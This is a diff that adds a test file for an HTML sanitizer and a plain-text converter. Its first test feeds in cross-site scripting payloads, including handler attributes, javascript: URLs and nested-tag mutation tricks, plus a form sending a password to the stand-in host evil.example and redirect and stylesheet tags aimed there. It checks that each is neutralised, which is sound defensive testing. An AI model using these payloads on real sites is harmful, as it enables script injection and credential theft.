@@ -1,0 +1,58 @@
+import { describe, expect, test } from 'vitest';
+import { cleanHtml } from './html.ts';
+import { plainText } from './plain.ts';
+
+test.each([
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="x"></object><embed src="x">',
+  '<form action="https://evil.example"><input name="password"><button>x</button></form>',
+  '<p style="background:url(//evil.example)">x</p>',
+  '<style>*{display:none}</style>',
+  '<link rel="stylesheet" href="//evil.example"><meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '<p id="state" name="root" onclick="alert(1)">x</p>',
+  '</div></section><section data-kind="text">x',
+  '<img src="https://tracker.example/pixel.gif">',
+])('%s comes out harmless', (html) => {
+  const clean = cleanHtml(html);
+  expect(clean).not.toMatch(
+    /<(script|svg|math|iframe|object|embed|form|input|button|style|link|meta|base|template|noscript|section)/i,
+  );
+  expect(clean).not.toMatch(
+    / (on\w+|style|id|name|srcdoc)=|javascript|data:|evil\.example"|tracker/i,
+  );
+  expect(cleanHtml(clean)).toBe(clean);
+});
+
+describe('what a writer makes stays', () => {
+  test.each([
+    '<h2>A title</h2><p>Some <strong>bold</strong> and <em>soft</em> words.</p>',
+    '<ul><li>one</li><li>two<ol start="3"><li>three</li></ol></li></ul>',
+    '<p class="ql-align-center">In the middle</p>',
+    '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
+    '<p dir="rtl" lang="ar">مرحبا</p>',
+    '<a href="/a/rest">here</a><a href="https://example.org">there</a><a href="mailto:a@example.org">by post</a>',
+    '<blockquote><p>Said</p></blockquote><hr><pre><code>x &#x3C; y</code></pre>',
+    '<img src="/files/ab/cd/abcd.png" alt="A tree">',
+  ])('%s', (html) => {
+    expect(cleanHtml(html)).toBe(html);
+  });
+});
+
+test('open elements are closed, and the first heading is of the second level', () => {
+  expect(cleanHtml('<h1>Title<p>Text <b>bold')).toBe('<h2>Title<p>Text <b>bold</b></p></h2>');
+});
+
+test('plain text holds the words and no markup', () => {
+  expect(plainText('<p>Tea &amp; bread</p><p>for&nbsp;two &#x3C;3 &#8212; ok</p>')).toBe(
+    'Tea & bread for two <3 — ok',
+  );
+});
